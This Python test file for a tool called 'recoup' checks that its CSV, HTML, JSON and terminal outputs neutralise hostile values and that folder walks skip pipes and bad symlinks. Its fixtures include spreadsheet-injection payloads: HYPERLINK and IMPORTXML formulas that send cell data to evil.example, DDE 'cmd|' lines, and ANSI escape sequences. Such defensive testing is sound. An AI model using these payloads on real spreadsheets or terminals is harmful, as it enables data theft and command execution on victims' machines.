"""Safe outputs end to end (docs/SECURITY.md, "Safe outputs"): hostile values
in the evidence never become spreadsheet formulas or terminal control
sequences in what recoup writes; money is dollars and cents beside the exact
value; times have one format; walked folders name what they skip.
"""

import csv
import io
import json
import os
import re
import unittest

from recoup_it import (ACCOUNT_A, RecoupTestCase, csm_attempt, ct_record, ms_of,
                       write_trail_file)

MONTH = "2026-10"
NOW = "2026-11-28T04:00:00Z"
CLAIM = ACCOUNT_A + "-us-east-1-kms-" + MONTH

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE_OPERATIONS = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
                      "\tX=1", "Decrypt\x1b[2J\x1b]0;pwned\x07"]
HOSTILE_RESOURCES = ["=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
                     "arn:aws:kms:us-east-1:%s:key/k1\x1b[31m\x07" % ACCOUNT_A]

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]")
ISO = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{3})?Z$")
CENTS = re.compile(r"^-?\d+\.\d\d$")


def jsonl(path, records):
    with open(path, "w") as f:
        for r in records:
            f.write(json.dumps(r) + "\n")
    return path


def read_bytes(path):
    with open(path, "rb") as f:
        return f.read()


class SafeOutputsTest(RecoupTestCase):
    def setUp(self):
        super().setUp()
        self.env["RECOUP_NOW"] = NOW

    def seed(self):
        """One breached series (account A, us-east-1, KMS, 2026-10) whose failing
        requests carry hostile operation names and key ARNs, from CloudTrail
        (whole seconds) and SDK CSM (milliseconds); charges $123.456."""
        t0 = ms_of(2026, 10, 5, 10)
        recs = []
        for i in range(40):
            op = HOSTILE_OPERATIONS[i % len(HOSTILE_OPERATIONS)] if i < 12 else "Decrypt"
            res = HOSTILE_RESOURCES[i % len(HOSTILE_RESOURCES)]
            r = ct_record(t0 + i * 1000, "ct-%02d" % i, event_name=op,
                          error="KMSInternalException" if i < 12 else None)
            r["resources"] = [{"accountId": ACCOUNT_A, "type": "AWS::KMS::Key", "ARN": res}]
            recs.append(r)
        write_trail_file(self.path("trail", "a.json.gz"), recs)
        self.ingest(self.path("trail"))
        t1 = ms_of(2026, 10, 6, 11) + 123
        csm = [csm_attempt(t1 + i * 1000, "csm-%02d" % i, status=500 if i < 3 else 200,
                           error="KMSInternalException" if i < 3 else None,
                           api=HYPERLINK if i == 0 else "Encrypt") for i in range(10)]
        self.ingest(jsonl(self.path("app.csm.jsonl"), csm), "--format", "csm",
                    "--account", ACCOUNT_A)
        r = self.run_recoup("billing", "set", "--account", ACCOUNT_A, "--region", "us-east-1",
                            "--month", MONTH, "--amount", "123.456")
        self.assertEqual(r.returncode, 0, r)

    def assert_no_control_bytes(self, what, text, allow_line_breaks=True):
        if isinstance(text, bytes):
            text = text.decode("utf-8", "replace")
        if not allow_line_breaks:
            self.assertNotIn("\n", text.rstrip("\n"), what)
        found = CONTROL.findall(text)
        self.assertEqual(found, [], "%s holds control characters %r" % (what, found))

    def assert_no_formula_cells(self, what, rows):
        for row in rows:
            for cell in row:
                self.assertFalse(cell.startswith(FORMULA_LEADS),
                                 "%s: cell %r would be evaluated by a spreadsheet" % (what, cell))

    def test_hostile_values_are_shown_never_executed(self):
        self.seed()
        # report: CSV cells, money, the table on the terminal.
        r = self.run_recoup("report", "--month", MONTH, "--output", "csv")
        self.assertEqual(r.returncode, 0, r)
        self.assert_no_control_bytes("report csv", r.stdout)
        rows = list(csv.reader(io.StringIO(r.stdout)))
        self.assert_no_formula_cells("report csv", rows)
        head, row = rows[0], dict(zip(rows[0], rows[1]))
        for name in ("charges_usd", "credit_usd"):
            self.assertEqual(head.index(name + "_exact"), head.index(name) + 1, head)
        self.assertEqual((row["charges_usd"], row["charges_usd_exact"]), ("123.46", "123.456"))
        self.assertEqual(row["breached"], "true")
        self.assertEqual(row["credit_pct"], "10")
        self.assertEqual((row["credit_usd"], row["credit_usd_exact"]), ("12.35", "12.3456"))
        self.assertRegex(row["claim_deadline"], ISO)

        r = self.run_recoup("report", "--month", MONTH)
        self.assertEqual(r.returncode, 0, r)
        self.assert_no_control_bytes("report table", r.stdout)
        self.assertIn("12.35", r.stdout)

        # The claim package.
        out = self.path("pkg")
        r = self.run_recoup("claims", "build", CLAIM, "--out", out)
        self.assertEqual(r.returncode, 0, r)
        files = {}
        for d, _, names in os.walk(out):
            for n in names:
                files[n] = os.path.join(d, n)
        self.assertIn("requests.csv", files)
        raw = read_bytes(files["requests.csv"])
        self.assert_no_control_bytes("requests.csv", raw)
        req = list(csv.DictReader(io.StringIO(raw.decode())))
        self.assert_no_formula_cells("requests.csv", [list(x.values()) for x in req])
        ops = {x["operation"] for x in req}
        # The raw value is kept in a safe form: a leading ' and \x escapes.
        self.assertIn("'" + HYPERLINK, ops)
        self.assertIn("'@SUM(1+1)", ops)
        # The others (quotes, pipes, TAB, ESC, BEL in an operation or a key ARN)
        # are refused at the edge by the validation layer, so they never reach
        # the package at all; where one did, it is in the escaped form.
        for value in ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\tX=1",
                      "Decrypt\x1b[2J\x1b]0;pwned\x07"):
            self.assertNotIn(value, ops)
        arns = {x["key_arn"] for x in req}
        self.assertTrue(any(a.startswith("'=IMPORTXML(") for a in arns), arns)
        self.assertFalse(any("\x1b" in a for a in arns), arns)
        times = [x["time_utc"] for x in req]
        for t in times:
            self.assertRegex(t, ISO)
        self.assertIn("2026-10-05T10:00:00Z", times)       # CloudTrail: seconds
        self.assertIn("2026-10-06T11:00:00.123Z", times)   # CSM: milliseconds

        for name in ("case-body.txt", "case-subject.txt", "mup-calculation.txt"):
            self.assert_no_control_bytes(name, read_bytes(files[name]))
        body = read_bytes(files["case-body.txt"]).decode()
        self.assertIn("$12.35.", body)  # the cent figure is what AWS is asked for
        self.assertNotIn("12.3456", body)
        html = read_bytes(files["report.html"]).decode()
        self.assert_no_control_bytes("report.html", html)
        self.assertIn("$12.35 (exactly $12.3456)", html)
        manifest = json.loads(read_bytes(files["manifest.json"]))
        self.assertEqual((manifest["credit_usd"], manifest["credit_usd_exact"]),
                         ("12.35", "12.3456"))
        self.assertEqual((manifest["charges_usd"], manifest["charges_usd_exact"]),
                         ("123.46", "123.456"))

        # The claims ledger: CSV cells, booleans, money; JSON nulls.
        r = self.run_recoup("claims", "list", "--output", "csv")
        self.assertEqual(r.returncode, 0, r)
        ledger = list(csv.DictReader(io.StringIO(r.stdout)))
        self.assertEqual(len(ledger), 1, r.stdout)
        self.assert_no_formula_cells("claims csv", [list(x.values()) for x in ledger])
        self.assertIn(ledger[0]["reminder"], ("true", "false"))
        self.assertEqual((ledger[0]["credit_asked_usd"], ledger[0]["credit_asked_usd_exact"]),
                         ("12.35", "12.3456"))
        self.assertEqual(ledger[0]["credit_received_usd"], "")
        r = self.run_recoup("claims", "list", "--output", "json")
        self.assertEqual(r.returncode, 0, r)
        c = r.json()["claims"][0]
        self.assertIsNone(c["case_id"])
        self.assertIsNone(c["credit_received_usd"])
        self.assertEqual((c["credit_asked_usd"], c["credit_asked_usd_exact"]), ("12.35", "12.3456"))
        self.assertIsInstance(c["reminder"], bool)
        r = self.run_recoup("claims", "show", CLAIM, "--output", "json")
        self.assertEqual(r.returncode, 0, r)
        shown = r.json()
        self.assertEqual((shown["credit_asked_usd"], shown["credit_asked_usd_exact"]),
                         ("12.35", "12.3456"))
        self.assertIsNone(shown["credit_received_usd"])
        self.assertIsNone(shown["case_id"])
        r = self.run_recoup("claims", "show", CLAIM)
        self.assertIn("asked $12.35,", r.stdout)

    def test_money_and_times_in_report_json(self):
        self.seed()
        r = self.run_recoup("report", "--month", MONTH, "--output", "json", "--intervals")
        self.assertEqual(r.returncode, 0, r)
        rows = r.json()
        self.assertIsInstance(rows, list)  # scripts rely on the array
        row = rows[0]
        for name in ("charges_usd", "credit_usd", "credit_before_minimum_usd",
                     "minimum_credit_usd"):
            self.assertRegex(row[name], CENTS, name)
            self.assertIn(name + "_exact", row)
        self.assertEqual(row["minimum_credit_usd"], "1.00")
        self.assertEqual(row["credit_before_minimum_usd_exact"], "12.3456")
        self.assertIsInstance(row["breached"], bool)
        self.assertIsInstance(row["below_minimum"], bool)
        self.assertRegex(row["claim_deadline"], ISO)
        for iv in row["interval_detail"]:
            self.assertRegex(iv["start"], ISO)


    def test_unknown_money_is_null_in_json_and_empty_in_csv(self):
        t0 = ms_of(2026, 10, 5, 10)
        write_trail_file(self.path("trail", "a.json.gz"),
                         [ct_record(t0 + i * 1000, "r%d" % i,
                                    error="KMSInternalException" if i < 3 else None)
                          for i in range(10)])
        self.ingest(self.path("trail"))
        row = self.run_recoup("report", "--month", MONTH, "--output", "json").json()[0]
        for name in ("charges_usd", "credit_usd", "credit_before_minimum_usd"):
            self.assertIsNone(row[name], name)
            self.assertIsNone(row[name + "_exact"], name)
        r = self.run_recoup("report", "--month", MONTH, "--output", "csv")
        cells = dict(next(csv.DictReader(io.StringIO(r.stdout))))
        for name in ("charges_usd", "charges_usd_exact", "credit_usd", "credit_usd_exact"):
            self.assertEqual(cells[name], "", name)


class WalkedFoldersTest(RecoupTestCase):
    def hostile_folder(self):
        d = self.mkdir("in")
        t0 = ms_of(2026, 10, 5, 10)
        write_trail_file(os.path.join(d, "good.json.gz"),
                         [ct_record(t0 + i * 1000, "w%d" % i) for i in range(5)])
        os.mkfifo(os.path.join(d, "fifo.json"))
        os.symlink(os.path.join(d, "gone.json"), os.path.join(d, "dangling.json"))
        os.symlink(os.path.join(d, "loop-b"), os.path.join(d, "loop-a"))
        os.symlink(os.path.join(d, "loop-a"), os.path.join(d, "loop-b"))
        os.symlink("/dev/zero", os.path.join(d, "zero.json.gz"))
        return d

    def assert_named(self, r, d):
        warnings = "\n".join(r.warnings())
        for name, why in (("fifo.json", "a FIFO (named pipe)"),
                          ("dangling.json", "a dangling symbolic link"),
                          ("loop-a", "a symbolic link loop"),
                          ("loop-b", "a symbolic link loop"),
                          ("zero.json.gz", "a symbolic link to a character device")):
            self.assertIn("%s: skipped: %s" % (os.path.join(d, name), why), warnings, r)

    def test_ingest_names_and_skips_what_is_not_a_file(self):
        d = self.hostile_folder()
        r = self.run_recoup("ingest", d, "--output", "json", timeout=120)
        self.assert_no_crash(r)
        self.assertEqual(r.returncode, 0, r)
        s = r.json()
        self.assertEqual(s["files"], 1, s)
        self.assertEqual(s["files_skipped"], 5, s)
        self.assertEqual(s["accepted"], 5, s)
        self.assert_named(r, d)
        r = self.run_recoup("ingest", d, timeout=120)
        self.assertIn("5 skipped (not regular files)", r.stdout, r)

    def test_health_and_billing_imports_name_them_too(self):
        d = self.hostile_folder()
        os.remove(os.path.join(d, "good.json.gz"))
        for cmd in (["health", "import", d], ["billing", "import", d]):
            r = self.run_recoup(*cmd, timeout=120)
            self.assert_no_crash(r)
            self.assert_named(r, d)


if __name__ == "__main__":
    unittest.main()
